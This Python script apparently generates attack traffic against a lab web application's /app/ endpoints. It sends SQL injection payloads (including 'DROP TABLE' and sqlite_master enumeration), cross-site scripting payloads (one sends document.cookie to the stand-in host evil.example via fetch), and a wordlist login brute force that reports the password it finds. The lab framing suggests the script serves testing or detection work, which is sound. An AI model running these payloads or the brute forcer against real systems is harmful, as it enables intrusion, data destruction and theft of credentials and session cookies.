#!/usr/bin/python3
"""Web-application attacks against the lab's /app/: SQL injection, cross-site
scripting and a login brute force, one request per connection as scanners and
scripted attacks often send them (or over one keep-alive connection with
--keepalive). Bounded by --count and --seconds; prints a JSON summary."""
import argparse
import http.client
import json
import random
import time
import urllib.parse

ap = argparse.ArgumentParser()
ap.add_argument("--host", required=True)
ap.add_argument("--port", type=int, default=80)
ap.add_argument("--mode", choices=["sqli", "xss", "login"], required=True)
ap.add_argument("--count", type=int, required=True)
ap.add_argument("--delay", type=float, nargs=2, default=[0.0, 0.05], metavar=("MIN", "MAX"))
ap.add_argument("--seconds", type=float, required=True)
ap.add_argument("--keepalive", action="store_true")
ap.add_argument("--user", default="alice")
ap.add_argument("--wordlist", help="passwords, one per line (login)")
ap.add_argument("--seed", type=int, default=0)
a = ap.parse_args()
rng = random.Random(a.seed)

SQLI = ["1'", "1 OR 1=1", "1' OR '1'='1", "1 UNION SELECT name, price, id FROM items--", "1; DROP TABLE items--",
        "1 AND SLEEP(1)", "0 UNION SELECT sqlite_version(),2,3", "1) OR (1=1", "' OR ''='", "1 ORDER BY 9--",
        "-1 UNION SELECT group_concat(name),2,3 FROM sqlite_master", "1/**/OR/**/1=1", "%27%20OR%201=1--"]
XSS = ["<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "<svg/onload=alert(1)>",
       "\"><script>fetch('//evil.example/'+document.cookie)</script>", "<body onload=alert('x')>",
       "<iframe src=javascript:alert(1)>", "';alert(String.fromCharCode(88,83,83))//", "<a href=javascript:alert(1)>x</a>"]
words = open(a.wordlist).read().split() if a.wordlist else ["123456", "password", "letmein"]


def request(n):
    if a.mode == "sqli":
        path = rng.choice(["/app/product?id=", "/app/search?q="]) + urllib.parse.quote(rng.choice(SQLI) + (" " * rng.randint(0, 2)))
        return "GET", path, None
    if a.mode == "xss":
        field = rng.choice([("/app/search?q=", ""), ("/app/comment?text=", "")])[0]
        return "GET", field + urllib.parse.quote(rng.choice(XSS)), None
    pw = words[n % len(words)]
    return "POST", "/app/login", urllib.parse.urlencode({"user": a.user, "password": pw})


stats = {"sent": 0, "codes": {}, "found": None}
end = time.time() + a.seconds
conn = None
for n in range(a.count):
    if time.time() >= end:
        break
    method, path, body = request(n)
    headers = {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64) python-requests/2.31",
               "Connection": "keep-alive" if a.keepalive else "close"}
    if body:
        headers["Content-Type"] = "application/x-www-form-urlencoded"
    try:
        if conn is None:
            conn = http.client.HTTPConnection(a.host, a.port, timeout=5)
        conn.request(method, path, body=body, headers=headers)
        r = conn.getresponse()
        r.read()
        stats["codes"][r.status] = stats["codes"].get(r.status, 0) + 1
        if not a.keepalive or r.will_close:
            conn.close()
            conn = None
        if a.mode == "login" and r.status == 200:
            stats["found"] = words[n % len(words)]
            stats["sent"] = n + 1
            break
    except OSError:
        conn = None
    stats["sent"] = n + 1
    time.sleep(rng.uniform(*a.delay))
if conn is not None:
    conn.close()
print(json.dumps(stats))
